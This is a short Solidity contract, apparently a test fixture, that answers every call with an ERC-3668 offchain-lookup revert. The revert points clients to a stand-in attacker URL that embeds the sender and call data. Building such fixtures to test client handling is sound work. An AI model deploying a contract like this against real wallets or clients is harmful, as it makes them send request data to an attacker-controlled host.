// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// A contract that answers every call with ERC-3668's request to look up the answer elsewhere.
contract OffchainLookupWallet {
    error OffchainLookup(address sender, string[] urls, bytes callData, bytes4 callback, bytes extraData);

    string private constant URL = "http://attacker.test/{sender}/{data}";

    receive() external payable {}

    fallback() external {
        string[] memory urls = new string[](3);
        (urls[0], urls[1], urls[2]) = (URL, URL, URL);
        revert OffchainLookup(address(this), urls, msg.data, msg.sig, "");
    }
}
